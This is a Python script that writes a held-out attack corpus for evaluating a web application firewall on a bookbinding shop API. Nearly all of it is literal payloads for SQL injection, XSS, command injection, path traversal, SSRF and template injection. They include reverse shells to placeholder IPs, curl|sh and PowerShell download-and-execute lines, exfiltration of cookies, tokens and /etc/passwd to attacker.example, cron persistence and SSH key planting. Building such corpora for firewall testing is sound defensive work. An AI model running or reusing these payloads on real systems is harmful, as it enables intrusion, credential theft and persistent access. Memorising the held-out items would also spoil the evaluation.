#!/usr/bin/env python3
"""Attack corpus for the bookbinding workshop API (held-out WAF evaluation).

Standard library only. Writes attacks.jsonl next to this file.
Almost everything is a hand-written literal (category, class, value). A small
templated part only joins a hand-written bookbinding prefix to a hand-written
payload, or applies one URL-encoding to a hand-written payload.
"""
import json
import os
import random
import urllib.parse

SEED = 19002
PREFIX = "hafy"

L = []


def add(cat, cls, value):
    L.append((cat, cls, value))


# ====================================================================== sqli
S = "sqli"
add(S, "note-or-tautology", "Job #2291' OR '1'='1")
add(S, "plain-numeric-tautology", "2291 OR 1=1")
add(S, "note-union-select", "reback' UNION SELECT username,password FROM users-- -")
add(S, "inventory-union-infoschema-hash", "Goatskin oxblood' UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables#")
add(S, "ticket-stacked-drop", "CR-0412'; DROP TABLE job_tickets;--")
add(S, "numeric-mssql-waitfor", "2291; WAITFOR DELAY '0:0:5'--")
add(S, "customer-mysql-sleep", "Harcourt' AND SLEEP(5)-- -")
add(S, "quote-pg-sleep-subselect", "Q-1187' AND 1=(SELECT 1 FROM pg_sleep(5))--")
add(S, "note-oracle-dbms-pipe", "vellum' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--")
add(S, "search-oracle-union-banner", "calf' UNION SELECT banner,NULL FROM v$version--")
add(S, "search-sqlite-master", "kozo' UNION SELECT name,sql FROM sqlite_master--")
add(S, "note-mysql-extractvalue", "red rot' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -")
add(S, "note-mysql-updatexml", "foxing' AND updatexml(1,concat(0x7e,user()),1)#")
add(S, "ticket-mssql-convert-error", "INV-3320' AND 1=CONVERT(int,@@version)--")
add(S, "ticket-pg-cast-error", "CR-0503' AND 1=CAST((SELECT current_user) AS int)--")
add(S, "plain-comment-as-space", "'/**/UNION/**/SELECT/**/1,2,3--")
add(S, "inventory-case-mixing", "buckram' uNiOn SeLeCt null,concat(login,0x3a,pass) fRoM staff-- -")
add(S, "search-mysql-versioned-comment", "linen' /*!50000UNION*/ /*!50000SELECT*/ 1,version(),3-- -")
add(S, "plain-or+urlencode", "%27%20OR%201%3D1--%20")
add(S, "plain-or+double-urlencode", "%2527%2520OR%25201%253D1--%2520")
add(S, "customer-boolean-substring", "O'Brien' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a")
add(S, "note-oracle-ascii-substr", "tengujo' AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>64--")
add(S, "numeric-order-by-probe", "2291 ORDER BY 5--")
add(S, "note-mssql-having", "reback' GROUP BY id,title HAVING 1=1--")
add(S, "login-comment-out", "admin'--")
add(S, "search-paren-tautology", "clamshell') OR ('1'='1")
add(S, "search-double-quote-paren-hash", "coptic\")) OR 1=1#")
add(S, "customer-count-subquery", "Okafor' AND (SELECT COUNT(*) FROM users)>0 AND '1'='1")
add(S, "note-mssql-xp-cmdshell", "rebind'; EXEC master..xp_cmdshell 'ping attacker.example'--")
add(S, "note-mssql-xp-dirtree-oob", r"re-case'; EXEC master..xp_dirtree '\\attacker.example\x'--")
add(S, "search-mysql-load-file", "goatskin' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -")
add(S, "note-mysql-into-outfile", "box only' UNION SELECT '<?php system($_GET[\"c\"]);?>',2 INTO OUTFILE '/var/www/html/s.php'-- -")
add(S, "note-pg-copy-program", "marbled'; COPY (SELECT 1) TO PROGRAM 'curl http://attacker.example/x|sh'--")
add(S, "note-oracle-utl-http", "vellum'||UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual))||'")
add(S, "numeric-union-version", "1 AND 1=2 UNION SELECT 1,@@version,3")
add(S, "insert-subselect-close", "Okafor', (SELECT password FROM users LIMIT 1))-- -")
add(S, "search-like-breakout", "red rot%' AND 1=1 AND '%'='")
add(S, "inventory-mysql-nested-sleep", "goatskin' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -")
add(S, "search-mysql-benchmark", "gold leaf' OR BENCHMARK(5000000,MD5('x'))#")
add(S, "note-sqlite-randomblob", "paste' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--")
add(S, "numeric-pg-case-sleep", "2291;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--")
add(S, "plain-or+fullwidth-quote", "＇ OR 1=1--")
add(S, "plain-or+percent-u", "%u0027%20OR%201=1--")
add(S, "numeric-hex-literal", "2291 UNION SELECT 0x61646d696e,2")
add(S, "numeric-char-function", "0 UNION SELECT CHAR(114,111,111,116),2--")
add(S, "note-like-tautology", "hinge' OR 'x' LIKE 'x")
add(S, "note-mssql-in-version", "spine' OR 1 IN (SELECT @@version)--")
add(S, "numeric-limit-tautology", "80 OR 1=1 LIMIT 1 -- ")
add(S, "note-oracle-concat-dual", "calf'||(SELECT '' FROM dual WHERE 1=1)||'")
add(S, "note-newline-whitespace", "cloth'\nUNION\nSELECT\n1,password\nFROM\nusers--")
add(S, "note-tab-whitespace", "board'\tOR\t1=1--")
add(S, "search-group-concat-tables", "leather' AnD 1=0 UnIoN aLl SeLeCt 1,group_concat(table_name) FrOm information_schema.tables WhErE table_schema=database()-- -")
add(S, "numeric-price-tautology", "100 OR 1=1")
add(S, "sort-orderby-case", "due_date,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)")
add(S, "sort-orderby-boolean-blind", "(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a' THEN due_date ELSE price END)")
add(S, "note-stacked-insert", "thanks!'; INSERT INTO users(login,pass,role) VALUES('eve','x','admin')--")
add(S, "note-stacked-update", "paid'; UPDATE invoices SET status='paid' WHERE id>0--")
add(S, "note-mssql-shutdown", "done'; SHUTDOWN--")
add(S, "note-oracle-utl-inaddr", "kozo' AND (SELECT UTL_INADDR.get_host_address('attacker.example') FROM dual) IS NOT NULL--")
add(S, "note-mysql-dns-exfil", r"vellum' AND LOAD_FILE(CONCAT('\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\a'))-- -")
add(S, "numeric-floor-rand-error", "2291 AND (SELECT 5151 FROM (SELECT COUNT(*),CONCAT(0x7e,user(),FLOOR(RAND(0)*2))x FROM information_schema.plugins GROUP BY x)a)")
add(S, "plain-empty-string-tautology", "' OR ''='")
add(S, "plain-gbk-multibyte-quote", "%bf%27 OR 1=1-- -")
add(S, "numeric-pg-comment-space", "1/**/AND/**/1=(SELECT/**/1/**/FROM/**/pg_sleep(4))")
add(S, "note-mysql-hash-comment-newline", "thread 18/3' OR 1=1#\n")
add(S, "customer-mssql-stacked-exec-oob", "Raj'; DECLARE @q varchar(99);SET @q='\\\\attacker.example\\s';EXEC master.dbo.xp_fileexist @q--")
add(S, "note-pg-stacked-role", "box'; ALTER ROLE app SUPERUSER;--")
add(S, "numeric-mysql-if-sleep", "2291 AND IF(ASCII(SUBSTRING(database(),1,1))>100,SLEEP(3),0)")
add(S, "search-sqlite-union-pragma", "calf' UNION SELECT group_concat(name),1 FROM pragma_table_info('users')--")
add(S, "note-mysql-url-encoded-sleep+urlencode", "Harcourt%27%20AND%20SLEEP%285%29%23")

# ====================================================================== xss
X = "xss"
add(X, "note-script-tag", "Lovely job! <script>fetch('https://attacker.example/c?'+document.cookie)</script>")
add(X, "plain-img-onerror", "<img src=x onerror=alert(document.domain)>")
add(X, "note-svg-onload", "Reback done <svg onload=alert(1)>")
add(X, "comment-iframe-javascript", "<iframe src=\"javascript:alert(document.cookie)\"></iframe>")
add(X, "attr-breakout-onfocus", "oxblood\" autofocus onfocus=\"alert(1)")
add(X, "attr-breakout-single", "navy' onmouseover='alert(document.cookie)' x='")
add(X, "markdown-link-javascript", "See [the condition report](javascript:alert(document.cookie))")
add(X, "note-body-onload", "<body onload=alert('bindery')>")
add(X, "note-details-ontoggle", "<details open ontoggle=alert(1)>photos</details>")
add(X, "note-case-mixing", "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>")
add(X, "note-entity-javascript-href", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">photos</a>")
add(X, "note-hex-entity-href", "<a href=\"&#x6A;avascript&#x3A;alert(document.domain)\">quote</a>")
add(X, "plain-script+urlencode", "%3Cscript%3Ealert(1)%3C%2Fscript%3E")
add(X, "plain-img+double-urlencode", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E")
add(X, "note-data-uri-iframe", "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>")
add(X, "note-object-data", "<object data=\"javascript:alert(1)\"></object>")
add(X, "note-embed-svg", "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">")
add(X, "textarea-breakout", "</textarea><script>alert(1)</script>")
add(X, "title-breakout", "</title><img src=x onerror=alert(1)>")
add(X, "script-string-breakout", "';alert(document.cookie);//")
add(X, "script-string-breakout-dq", "\";alert(document.domain);//")
add(X, "script-tag-close-in-js", "</script><script>alert(1)</script>")
add(X, "note-input-autofocus", "<input autofocus onfocus=alert(1)>")
add(X, "note-video-source-onerror", "<video><source onerror=\"alert(1)\"></video>")
add(X, "note-audio-onerror", "<audio src=x onerror=alert(1)>")
add(X, "note-marquee-onstart", "<marquee onstart=alert(1)>sale on goatskin</marquee>")
add(X, "note-svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>open</text></a></svg>")
add(X, "note-svg-script", "<svg><script>alert(1)</script></svg>")
add(X, "note-math-href", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>")
add(X, "note-slash-separator", "<img/src=x/onerror=alert(1)>")
add(X, "note-newline-in-tag", "<img src=x\nonerror=alert(1)>")
add(X, "note-backtick-call", "<img src=x onerror=alert`1`>")
add(X, "note-eval-atob", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>")
add(X, "note-unicode-escape-js", "<script>\\u0061lert(1)</script>")
add(X, "note-js-hex-escape", "<img src=x onerror=\"\\x61lert(1)\">")
add(X, "angular-csti", "{{constructor.constructor('alert(1)')()}}")
add(X, "angular-csti-sandbox", "{{$on.constructor('alert(document.cookie)')()}}")
add(X, "vue-csti", "{{_c.constructor('alert(1)')()}}")
add(X, "note-style-import", "<style>@import 'https://attacker.example/x.css';</style>")
add(X, "note-link-stylesheet", "<link rel=stylesheet href=https://attacker.example/x.css>")
add(X, "note-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">")
add(X, "note-base-href", "<base href=\"https://attacker.example/\">")
add(X, "note-form-action", "<form action=https://attacker.example/login><input name=pw type=password><button>Log in again</button></form>")
add(X, "note-button-formaction", "<button formaction=javascript:alert(1)>Pay deposit</button>")
add(X, "note-onpointerover", "<div onpointerover=\"alert(1)\">Job #2291</div>")
add(X, "note-xlink-href", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>photos</text></a></svg>")
add(X, "note-keygen-onfocus", "<select autofocus onfocus=alert(1)>")
add(X, "note-script-src", "<script src=//attacker.example/x.js></script>")
add(X, "note-script-src-protocolrelative-ip", "<script src=//203.0.113.9/b.js></script>")
add(X, "note-iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>")
add(X, "note-javascript-mixed-case-tab", "<a href=\"jav\tascript:alert(1)\">click</a>")
add(X, "note-javascript-entity-newline", "<a href=\"java&#x0A;script:alert(1)\">click</a>")
add(X, "note-img-srcset-onerror", "<img srcset=x onerror=alert(1)>")
add(X, "note-onanimationstart", "<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationstart=\"alert(1)\">cloth</p>")
add(X, "markdown-image-onerror", "![spine](x\"onerror=\"alert(1))")
add(X, "markdown-html-mixed", "**Condition:** fair <img src=1 onerror=alert(document.cookie)>")
add(X, "note-template-literal", "<script>alert`${document.cookie}`</script>")
add(X, "note-setTimeout-string", "<img src=x onerror=setTimeout('al'+'ert(1)')>")
add(X, "note-fetch-exfil-localstorage", "<img src=x onerror=\"fetch('//attacker.example/?t='+localStorage.getItem('token'))\">")
add(X, "note-svg-foreignobject", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>")
add(X, "note-noscript-breakout", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")
add(X, "note-xmp-breakout", "<xmp></xmp><img src=x onerror=alert(1)></xmp>")
add(X, "note-comment-breakout", "--><script>alert(1)</script><!--")
add(X, "note-cdata-svg", "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert(1)//\"></svg>")
add(X, "plain-fullwidth-brackets", "＜script＞alert(1)＜/script＞")
add(X, "plain-overlong-utf8-lt", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE")
add(X, "plain-percent-u-script", "%u003Cscript%u003Ealert(1)%u003C/script%u003E")
add(X, "note-json-unicode-escaped-tag", "\\u003cimg src=x onerror=alert(1)\\u003e")
add(X, "note-dom-clobber-form", "<form id=config><input name=apiUrl value=https://attacker.example/></form>")

# ====================================================================== cmdi
C = "cmdi"
add(C, "filename-semicolon-id", "IMG_2041.jpg; id")
add(C, "filename-pipe-passwd", "scan.tif | cat /etc/passwd")
add(C, "filename-subshell-curl", "CR-0412.pdf $(curl -s http://attacker.example/s.sh|sh)")
add(C, "filename-backtick-whoami", "cover`whoami`.png")
add(C, "note-and-and", "thesis.pdf && wget http://attacker.example/x -O /tmp/x && sh /tmp/x")
add(C, "filename-newline", "IMG_2042.jpg\nid")
add(C, "filename-urlencoded-newline", "IMG_2043.jpg%0aid")
add(C, "plain-semicolon", ";cat /etc/shadow")
add(C, "plain-or-or", "|| uname -a")
add(C, "windows-ampersand-type", "scan.tif & type C:\\Windows\\win.ini")
add(C, "windows-pipe-whoami", "label.pdf | whoami /all")
add(C, "windows-ampersand-certutil", "cover.jpg & certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe")
add(C, "powershell-iex-download", "photo.jpg; powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\"")
add(C, "powershell-encoded", "x.pdf & powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlAC8AcAApAA==")
add(C, "powershell-invoke-webrequest", "; Invoke-WebRequest -Uri http://attacker.example/u -Method POST -Body (Get-Content C:\\inetpub\\wwwroot\\web.config -Raw)")
add(C, "ifs-bypass", "scan.tif;cat${IFS}/etc/passwd")
add(C, "brace-expansion", "x.jpg;{cat,/etc/passwd}")
add(C, "ansi-c-quoting", "x.jpg;$'\\x69\\x64'")
add(C, "glob-obfuscation", "x.jpg;/???/c?t /???/p??s??")
add(C, "quote-splitting", "x.jpg;w'h'o\"a\"mi")
add(C, "backslash-splitting", "x.jpg;c\\at /et\\c/pas\\swd")
add(C, "reverse-shell-bash", "scan.tif; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")
add(C, "reverse-shell-nc", "cover.png | nc 198.51.100.23 9001 -e /bin/sh")
add(C, "reverse-shell-python", "a.pdf; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'")
add(C, "reverse-shell-mkfifo", "x.tif;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f")
add(C, "exfil-curl-data", "x.jpg; curl -d @/etc/passwd http://attacker.example/up")
add(C, "exfil-dns-nslookup", "x.jpg; nslookup $(whoami).attacker.example")
add(C, "sleep-blind", "IMG_2041.jpg; sleep 10")
add(C, "ping-blind", "IMG_2041.jpg | ping -c 10 127.0.0.1")
add(C, "windows-timeout-blind", "scan.tif & timeout /t 10")
add(C, "arg-inject-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh")
add(C, "arg-inject-curl-output", "http://attacker.example/s.php -o /var/www/html/s.php")
add(C, "arg-inject-wget-post-file", "--post-file=/etc/passwd http://attacker.example/")
add(C, "arg-inject-ssh-proxycommand", "-oProxyCommand=curl${IFS}attacker.example/x|sh backup@nas")
add(C, "arg-inject-git-upload-pack", "--upload-pack=touch /tmp/pwned")
add(C, "arg-inject-find-exec", "*.tif -exec sh -c 'id > /tmp/o' ;")
add(C, "arg-inject-sendmail-log", "m.harcourt@example.org -X/var/www/html/log.php -OQueueDirectory=/tmp")
add(C, "arg-inject-rsync-e", "-e 'sh -c id' archive/ nas:/backup")
add(C, "arg-inject-zip-TT", "photos.zip -T -TT 'sh -c id'")
add(C, "arg-inject-gs-outputfile", "-sOutputFile=%pipe%id CR-0412.pdf")
add(C, "imagemagick-msl-pipe", "|curl http://attacker.example/x.sh|sh")
add(C, "imagemagick-delegate-url", "https://example.com/cover.jpg\"|id > /tmp/o; echo \"")
add(C, "exiftool-filename-pipe", "cover.jpg|id|")
add(C, "perl-open-pipe", "|/bin/sh -c id|")
add(C, "note-heredoc", "a.tif; sh <<EOF\nid\nEOF")
add(C, "subshell-nested", "$(echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94fHNo | base64 -d | sh)")
add(C, "backtick-base64", "`echo aWQ= | base64 -d`")
add(C, "printf-octal", "x.jpg;$(printf '\\151\\144')")
add(C, "rev-obfuscation", "x.jpg;$(rev<<<'di')")
add(C, "env-var-substring", "x.jpg;${PATH:0:1}bin${PATH:0:1}id")
add(C, "crontab-persistence", "x.jpg; (crontab -l; echo '* * * * * curl attacker.example/b|sh') | crontab -")
add(C, "ssh-key-plant", "x.jpg; echo ssh-ed25519 AAAAPLACEHOLDERKEY eve@attacker.example >> ~/.ssh/authorized_keys")
add(C, "windows-cmd-caret", "scan.tif & w^h^o^a^m^i")
add(C, "windows-cmd-empty-substring", "scan.tif & c%ProgramData:~0,0%md /c who%ProgramData:~0,0%ami")
add(C, "windows-net-user", "x.pdf & net user eve P@ss-PLACEHOLDER /add & net localgroup administrators eve /add")
add(C, "windows-bitsadmin", "x.pdf | bitsadmin /transfer j http://attacker.example/a.exe C:\\Users\\Public\\a.exe")
add(C, "windows-mshta", "x.pdf & mshta http://attacker.example/a.hta")
add(C, "windows-rundll32", "x.pdf & rundll32 \\\\attacker.example\\s\\x.dll,Start")
add(C, "windows-pwsh-semicolon-gci", "cover.jpg'; Get-ChildItem C:\\ -Recurse | Out-File \\\\attacker.example\\s\\l.txt; '")
add(C, "urlencoded-semicolon+urlencode", "IMG_2041.jpg%3B%20cat%20%2Fetc%2Fpasswd")
add(C, "double-urlencoded-pipe+double-urlencode", "IMG_2041.jpg%257C%2520id")
add(C, "plain-pipe-id", "| id")
add(C, "plain-backtick", "`id`")
add(C, "plain-subshell", "$(id)")

# ====================================================================== traversal
T = "traversal"
add(T, "attachment-dotdot-passwd", "../../../../etc/passwd")
add(T, "attachment-windows-backslash", "..\\..\\..\\..\\Windows\\win.ini")
add(T, "photo-path-prefixed", "photos/2291/../../../../etc/shadow")
add(T, "scan-urlencoded+urlencode", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd")
add(T, "scan-double-urlencoded+double-urlencode", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd")
add(T, "scan-overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd")
add(T, "scan-overlong-slash", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd")
add(T, "scan-percent-u", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd")
add(T, "filter-bypass-dotdotslash-doubled", "....//....//....//etc/passwd")
add(T, "filter-bypass-backslash-doubled", "....\\\\....\\\\....\\\\windows\\\\win.ini")
add(T, "tomcat-semicolon", "/static/..;/..;/WEB-INF/web.xml")
add(T, "absolute-etc-shadow", "/etc/shadow")
add(T, "nullbyte-extension", "../../../../etc/passwd%00.jpg")
add(T, "nullbyte-pdf", "../../../etc/hosts\x00.pdf")
add(T, "proc-self-environ", "../../../../proc/self/environ")
add(T, "proc-self-cmdline", "/proc/self/cmdline")
add(T, "webinf-web-xml", "../WEB-INF/web.xml")
add(T, "dotenv", "../../.env")
add(T, "git-config", "../../../.git/config")
add(T, "windows-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts")
add(T, "windows-sam", "..\\..\\..\\Windows\\System32\\config\\SAM")
add(T, "windows-mixed-separators", "..\\../..\\../boot.ini")
add(T, "windows-urlencoded-backslash", "..%5c..%5c..%5cwindows%5cwin.ini")
add(T, "windows-inetpub-webconfig", "..\\..\\inetpub\\wwwroot\\web.config")
add(T, "file-uri-ssh-key", "file:///home/bindery/.ssh/id_rsa")
add(T, "zip-slip-entry", "../../../../var/www/html/shell.php")
add(T, "zip-slip-cron", "../../../../../etc/cron.d/bindery")
add(T, "ssh-key", "../../../home/bindery/.ssh/id_rsa")
add(T, "root-history", "../../../../root/.bash_history")
add(T, "aws-credentials", "../../../../home/app/.aws/credentials")
add(T, "k8s-serviceaccount-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token")
add(T, "mixed-encoded-dot", ".%2e/.%2e/.%2e/etc/passwd")
add(T, "mixed-encoded-slash", "..%2f..%2f..%2fetc%2fpasswd")
add(T, "fullwidth-dots", "．．／．．／．．／etc／passwd")
add(T, "unicode-division-slash", "..∕..∕..∕etc∕passwd")
add(T, "php-wrapper-filter", "php://filter/convert.base64-encode/resource=../config.php")
add(T, "php-wrapper-zip", "zip://../uploads/IMG_2041.jpg#shell.php")
add(T, "php-phar", "phar://./uploads/cover.jpg/x")
add(T, "log-file", "../../../../var/log/nginx/access.log")
add(T, "dotdot-trailing-dots-windows", "..\\..\\..\\windows\\win.ini....")
add(T, "long-prefix-with-nested", "condition_reports/2024/CR-0412/../../../../../../etc/passwd")
add(T, "query-template-param", "../../../../../../usr/local/app/config/database.yml")
add(T, "unc-share", "\\\\198.51.100.7\\share\\x")
add(T, "dotdot-16bit-utf", "..%u2216..%u2216windows%u2216win.ini")
add(T, "tilde-home", "~/../../etc/passwd")
add(T, "plain-dotdot-short", "../../etc/passwd")

# ====================================================================== ssrf
R = "ssrf"
add(R, "cover-url-aws-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")
add(R, "cover-url-aws-userdata", "http://169.254.169.254/latest/user-data")
add(R, "cover-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token")
add(R, "cover-url-azure-metadata", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/")
add(R, "import-url-decimal-ip", "http://2130706433/admin")
add(R, "import-url-hex-ip", "http://0x7f000001/")
add(R, "import-url-octal-ip", "http://0177.0.0.1/")
add(R, "import-url-short-ip", "http://127.1/")
add(R, "import-url-ipv6-loopback", "http://[::1]:8080/")
add(R, "import-url-ipv4-mapped-ipv6", "http://[::ffff:127.0.0.1]/")
add(R, "import-url-zero", "http://0/")
add(R, "import-url-decimal-metadata", "http://2852039166/latest/meta-data/")
add(R, "import-url-hex-dotted-metadata", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/")
add(R, "import-url-ipv6-metadata", "http://[fd00:ec2::254]/latest/meta-data/")
add(R, "webhook-userinfo-confusion", "http://attacker.example@127.0.0.1:8080/")
add(R, "webhook-fragment-confusion", "http://127.0.0.1:6379#@attacker.example/")
add(R, "webhook-backslash-confusion", "http://attacker.example\\@169.254.169.254/")
add(R, "webhook-redirect-open", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/")
add(R, "webhook-dns-rebind", "http://169.254.169.254.attacker.example/latest/meta-data/")
add(R, "gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%20*%20*%20*%20*%20curl%20attacker.example%2Fs%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASAVE%0D%0A")
add(R, "gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Ceve%40attacker.example%3E%0D%0ARCPT%20TO%3A%3Cstaff%40bindery.internal%3E%0D%0ADATA%0D%0Ahi%0D%0A.%0D%0A")
add(R, "dict-memcached", "dict://127.0.0.1:11211/stats")
add(R, "file-scheme", "file:///etc/passwd")
add(R, "file-scheme-windows", "file:///C:/Windows/win.ini")
add(R, "internal-redis-name", "http://redis:6379/")
add(R, "internal-consul", "http://localhost:8500/v1/agent/self")
add(R, "internal-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets")
add(R, "internal-docker-api", "http://10.0.0.5:2375/containers/json")
add(R, "internal-router-admin", "http://192.168.1.1/admin/config.bin")
add(R, "internal-elasticsearch", "http://172.16.0.12:9200/_cat/indices")
add(R, "internal-solr", "http://solr.internal:8983/solr/admin/cores?action=STATUS")
add(R, "internal-actuator", "http://127.0.0.1:8080/actuator/env")
add(R, "internal-kubelet", "https://10.0.0.1:10250/pods")
add(R, "internal-etcd", "http://127.0.0.1:2379/v2/keys/?recursive=true")
add(R, "ftp-internal", "ftp://10.0.0.8/backup/db.sql")
add(R, "ldap-scheme", "ldap://127.0.0.1:389/dc=bindery,dc=local??sub?(objectClass=*)")
add(R, "jar-scheme", "jar:http://attacker.example/x.jar!/")
add(R, "netdoc-scheme", "netdoc:///etc/passwd")
add(R, "tftp-scheme", "tftp://198.51.100.4/x")
add(R, "localhost-uppercase", "http://LOCALHOST:8080/admin")
add(R, "localhost-trailing-dot", "http://localhost./server-status")
add(R, "ip-with-enclosed-alphanumerics", "http://①②⑦.⓪.⓪.①/")
add(R, "ip-mixed-encoding", "http://127.0.0.1%2523@attacker.example/")
add(R, "note-image-url-metadata", "Cover photo: http://169.254.169.254/latest/meta-data/iam/security-credentials/bindery-role")
add(R, "callback-urlencoded+urlencode", "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F")
add(R, "callback-ipv6-zone", "http://[fe80::1%25eth0]/")
add(R, "alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/")
add(R, "oracle-cloud-metadata", "http://169.254.169.254/opc/v2/instance/")
add(R, "digitalocean-metadata", "http://169.254.169.254/metadata/v1.json")

# ====================================================================== code
K = "code"
add(K, "ssti-jinja2-cycler", "Dear {{ cycler.__init__.__globals__.os.popen('id').read() }},")
add(K, "ssti-jinja2-config", "Label: {{ config.items() }}")
add(K, "ssti-jinja2-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}")
add(K, "ssti-jinja2-attr-bypass", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}")
add(K, "ssti-jinja2-lipsum", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}")
add(K, "ssti-jinja2-statement", "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}")
add(K, "ssti-twig-filter", "{{ ['id']|filter('system') }}")
add(K, "ssti-twig-undefined-callback", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}")
add(K, "ssti-twig-map", "{{ ['cat /etc/passwd']|map('passthru')|join }}")
add(K, "ssti-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }")
add(K, "ssti-freemarker-objectconstructor", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}")
add(K, "ssti-velocity-runtime", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()")
add(K, "ssti-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x")
add(K, "ssti-erb-backtick", "<%= `id` %>")
add(K, "ssti-erb-file-read", "<%= File.open('/etc/passwd').read %>")
add(K, "ssti-smarty-system", "{system('id')}")
add(K, "ssti-smarty-php-tag", "{php}echo `id`;{/php}")
add(K, "ssti-mako-os", "${self.module.cache.util.os.system('id')}")
add(K, "ssti-mako-import", "<% import os %>${os.popen('id').read()}")
add(K, "ssti-tornado-import", "{% import os %}{{ os.popen('id').read() }}")
add(K, "ssti-django-settings", "{{ settings.SECRET_KEY }}")
add(K, "ssti-nunjucks-range", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}")
add(K, "ssti-ejs-require", "<%= global.process.mainModule.require('child_process').execSync('id') %>")
add(K, "ssti-pug-function", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('id')}()}")
add(K, "ssti-handlebars-constructor", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}")
add(K, "ssti-razor-process", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt\")")
